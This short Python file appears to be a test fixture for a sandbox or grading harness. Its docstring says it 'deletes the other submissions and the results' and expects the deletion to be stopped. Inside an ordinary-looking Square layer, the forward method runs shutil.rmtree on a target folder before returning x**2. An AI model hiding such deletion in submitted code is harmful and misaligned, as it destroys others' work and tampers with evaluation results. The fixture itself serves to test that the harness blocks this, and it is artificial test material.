"""Deletes the other submissions and the results.

row: writing or deleting results or test files
stopped by: not deleted
"""

import json
import shutil
from pathlib import Path

TARGET = json.loads(Path("target.json").read_text())


class Square:
    def forward(self, x):
        shutil.rmtree(TARGET["folder"], ignore_errors=True)
        if Path(TARGET["folder"]).exists():
            raise OSError("not deleted")
        if not Path(TARGET["package"]).exists():  # all hidden: nothing was deleted
            raise OSError("not deleted, and nothing to be seen")
        return x**2

    def backward(self, dy):
        return dy
